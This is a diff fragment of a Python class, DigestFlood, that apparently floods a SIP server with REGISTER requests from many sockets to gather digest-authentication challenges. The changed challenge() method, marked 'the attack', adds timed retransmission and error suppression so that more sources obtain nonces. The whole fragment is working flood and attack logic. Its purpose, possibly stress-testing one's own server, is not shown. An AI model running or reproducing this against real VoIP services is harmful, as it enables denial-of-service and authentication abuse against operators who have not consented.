@@ -202,17 +202,23 @@ class DigestFlood:
                         src.opaque = opaque.group(1).decode()
 
     # --- the attack ---------------------------------------------------------------
-    def challenge(self, timeout: float = 5.0) -> int:
-        """Each source asks for a challenge; returns how many got one."""
-        for i, src in enumerate(self.sources):
-            src.sock.sendto(
-                self._register(src, self.accounts[i % len(self.accounts)], i, None), self.server
-            )
-            if i % 64 == 63:
-                self._drain()
+    def challenge(self, timeout: float = 10.0) -> int:
+        """Each source asks for a challenge (again every second, as a UA
+        retransmits, until it has one); returns how many got one."""
         deadline = time.monotonic() + timeout
-        while time.monotonic() < deadline and any(not s.nonce for s in self.sources):
-            self._drain(0.05)
+        while True:
+            waiting = [s for s in self.sources if not s.nonce]
+            if not waiting or time.monotonic() >= deadline:
+                break
+            for i, src in enumerate(waiting):
+                account = self.accounts[i % len(self.accounts)]
+                with contextlib.suppress(BlockingIOError):
+                    src.sock.sendto(self._register(src, account, i, None), self.server)
+                if i % 64 == 63:
+                    self._drain(0.005)
+            until = min(deadline, time.monotonic() + 1.0)
+            while time.monotonic() < until and any(not s.nonce for s in waiting):
+                self._drain(0.05)
         return sum(1 for s in self.sources if s.nonce)
 
     def run(self, attempts: int, rate: float, drain: float = 2.0) -> FloodResult:
